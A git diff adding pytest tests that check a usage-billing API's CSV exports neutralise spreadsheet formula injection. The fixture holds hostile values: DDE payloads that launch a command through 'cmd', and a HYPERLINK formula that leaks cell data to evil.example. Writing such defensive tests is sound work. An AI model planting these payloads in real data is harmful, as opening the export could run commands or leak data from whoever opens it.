@@ -9,9 +9,11 @@ import pytest
 import time_machine
 from rest_framework.test import APIClient
 
+from billing.metering import Meter, record_usage
 from billing.models import UsageRecord
 from routing.models import ModelAlias
 from tenants import services
+from tenants.key_auth import authenticate_secret
 from tenants.models import Team
 from tenants.services import CreatedKey
 from tests.billing.conftest import PRICE_MICRO, budget
@@ -210,3 +212,94 @@ def test_the_summary_reports_each_budgets_spend_and_remaining(
     start = datetime.fromisoformat(reported["period_start"])
     assert start.day == 1 and start.hour == 0
     assert datetime.fromisoformat(reported["resets_at"]) - start >= timedelta(days=28)
+
+
+# What a hostile tenant puts where a spreadsheet would run it: a key's name, and a model
+# name that a refused call and a passthrough call record as sent.
+FORMULA_NAME = "=1+cmd|' /C calc'!A0"
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+PASSTHROUGH_MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile_records(team: Team, platform_alias: ModelAlias) -> CreatedKey:
+    created = services.key_create(actor="system:tests", team=team, name=FORMULA_NAME)
+    with time_machine.travel(DAY_ONE, tick=False):
+        assert _generate(client_for(created.secret), HYPERLINK) == 404
+        meter = Meter(
+            request_id="req_passthrough",
+            endpoint="passthrough",
+            principal=authenticate_secret(created.secret),
+            provider="openai",
+            upstream_model=PASSTHROUGH_MODEL,
+            method="POST",
+            path="/openai/v1/images/generations",
+        )
+        record_usage(meter, status=200, error_code="", bytes_out=7)
+    return created
+
+
+def test_the_records_csv_neutralises_cells_a_spreadsheet_would_run(
+    admin: SchemaCheckedClient, hostile_records: CreatedKey
+) -> None:
+    exported = sorted(_csv(admin.get("/api/v1/usage?format=csv")), key=lambda r: r["endpoint"])
+    assert [(r["endpoint"], r["alias"], r["upstream_model"]) for r in exported] == [
+        ("images.generations", "'" + HYPERLINK, ""),
+        ("passthrough", "", "'" + PASSTHROUGH_MODEL),
+    ]
+    assert [(r["status"], r["cost_micro"], r["cost_usd"], r["bytes_out"]) for r in exported] == [
+        ("404", "0", "0.000000", exported[0]["bytes_out"]),
+        ("200", "0", "0.000000", "7"),
+    ]
+    # The JSON is data, not a spreadsheet: it keeps what was sent.
+    records = admin.get("/api/v1/usage").json()["results"]
+    assert sorted((r["alias"], r["upstream_model"]) for r in records) == [
+        ("", PASSTHROUGH_MODEL),
+        (HYPERLINK, ""),
+    ]
+
+
+def test_the_summary_csv_neutralises_cells_a_spreadsheet_would_run(
+    admin: SchemaCheckedClient, hostile_records: CreatedKey
+) -> None:
+    by_key = _csv(admin.get("/api/v1/usage/summary?group_by=key&format=csv"))
+    assert by_key == [
+        {
+            "group": hostile_records.key.public_id,
+            "label": "'" + FORMULA_NAME,
+            "requests": "2",
+            "images": "0",
+            "errors": "1",
+            "cost_micro": "0",
+            "cost_usd": "0.000000",
+        }
+    ]
+    by_alias = _csv(admin.get("/api/v1/usage/summary?group_by=alias&format=csv"))
+    assert sorted((row["group"], row["label"], row["requests"]) for row in by_alias) == [
+        ("", "", "1"),
+        ("'" + HYPERLINK, "'" + HYPERLINK, "1"),
+    ]
+    labels = admin.get("/api/v1/usage/summary?group_by=key").json()["data"]
+    assert [row["label"] for row in labels] == [FORMULA_NAME]
+
+
+def test_a_record_shows_the_gateways_request_id_and_the_callers_in_json_and_csv(
+    admin: SchemaCheckedClient, api_key: CreatedKey, platform_alias: ModelAlias
+) -> None:
+    response = client_for(api_key.secret).post(
+        "/v1/images/generations",
+        json.dumps({"model": "no-such-model", "prompt": "x"}),
+        content_type="application/json",
+        HTTP_X_REQUEST_ID="caller-trace-7",
+    )
+    assert response.status_code == 404
+    [record] = admin.get("/api/v1/usage").json()["results"]
+    assert (record["request_id"], record["client_request_id"]) == (
+        response["x-request-id"],
+        "caller-trace-7",
+    )
+    [row] = _csv(admin.get("/api/v1/usage?format=csv"))
+    assert (row["request_id"], row["client_request_id"]) == (
+        response["x-request-id"],
+        "caller-trace-7",
+    )
